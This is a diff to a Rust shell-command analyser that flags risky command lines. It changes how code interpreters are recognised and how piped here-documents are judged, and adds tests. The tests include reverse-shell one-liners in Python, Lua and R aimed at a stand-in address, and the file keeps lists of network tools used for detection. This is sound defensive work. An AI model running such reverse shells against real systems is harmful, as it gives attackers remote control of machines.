@@ -148,16 +148,14 @@ const NET_PROGRAMS: &[&str] = &[
     "curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp",
     "sftp", "rsync", "ftp", "aria2c", "lftp", "websocat", "grpcurl",
 ];
-const INTERPRETERS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "python", "python2", "python3", "perl",
-    "ruby", "node", "php", "lua", "pwsh", "deno", "bun",
-];
+/// Shells; the code interpreters are `code_strings::is_code_interpreter`.
+const SHELL_INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "pwsh"];
 const FETCHERS: &[&str] = &[
     "curl", "wget", "fetch", "aria2c", "http", "xh", "nc", "ncat",
 ];
 
 fn is_interpreter(p: &str) -> bool {
-    INTERPRETERS.contains(&p) || p.starts_with("python3.")
+    SHELL_INTERPRETERS.contains(&p) || crate::code_strings::is_code_interpreter(p)
 }
 
 /// Analyse a command line run in `cwd`.
@@ -581,11 +579,7 @@ fn inline_code_hidden(cmd: &SimpleCommand, a: &mut CommandAnalysis) {
 /// Inline interpreter code (`python -c`, `node -e`, …) that reaches the
 /// network, and sends the environment there.
 fn inline_code_network(cmd: &SimpleCommand, facts: &mut LineFacts, a: &mut CommandAnalysis) {
-    if !matches!(
-        cmd.program(),
-        "python" | "python3" | "node" | "nodejs" | "deno" | "bun" | "perl" | "ruby" | "php" | "lua"
-    ) && !cmd.program().starts_with("python3.")
-    {
+    if !crate::code_strings::is_code_interpreter(cmd.program()) {
         return;
     }
     let code = cmd.args().join(" ");
@@ -677,9 +671,15 @@ fn interpreter_input(
 /// Whether what is piped into an interpreter is a here-document written
 /// on the line (`cat <<EOF | python3`: the parser gives it to the
 /// pipeline's last stage, which reads it through `cat`): its code was
-/// searched like inline code, so the pipe hides nothing.
+/// searched like inline code, so the pipe hides nothing — only when `cat`
+/// reads nothing but its input (`cat /tmp/x.py <<EOF` sends the file).
 fn spelled_out(cmd: &SimpleCommand, upstream: &[&SimpleCommand]) -> bool {
-    !cmd.heredocs.is_empty() && upstream.iter().all(|c| c.program() == "cat")
+    !cmd.heredocs.is_empty()
+        && upstream.iter().all(|c| {
+            c.program() == "cat"
+                && matches!(c.args(), [] | [_])
+                && c.args().iter().all(|a| a == "-")
+        })
 }
 
 /// The line as a whole: a downloaded script run through a shell, a
@@ -1568,6 +1568,36 @@ SH",
         for line in pass {
             assert!(top(line) < Some(Severity::High), "{line}: {:?}", top(line));
         }
+    }
+
+    #[test]
+    fn only_a_bare_cat_spells_a_here_document_out() {
+        let line = "cat /tmp/x.py <<'EOF' | python3\nprint(1)\nEOF";
+        assert!(top(line) >= Some(Severity::Medium), "{line}");
+        for line in [
+            "cat <<'EOF' | python3\nprint(1)\nEOF",
+            "cat - <<'EOF' | python3\nprint(1)\nEOF",
+        ] {
+            assert_eq!(top(line), None, "{line}");
+        }
+    }
+
+    #[test]
+    fn every_code_interpreter_gets_the_network_checks() {
+        for program in ["python2", "pypy", "pypy3"] {
+            let line = format!(
+                r#"{program} -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#
+            );
+            assert_eq!(top(&line), Some(Severity::Critical), "{line}");
+        }
+        for program in ["luajit", "lua5.4"] {
+            let line = format!(
+                r#"{program} -e 'local s=require("socket").tcp(); s:connect("192.0.2.1",9); os.execute("/bin/sh -i <&3 >&3")'"#
+            );
+            assert_eq!(top(&line), Some(Severity::Critical), "{line}");
+        }
+        let line = r#"Rscript -e 's <- socketConnection("192.0.2.1", 9); system(readLines(s))'"#;
+        assert_eq!(top(line), Some(Severity::Critical), "{line}");
     }
 
     #[test]
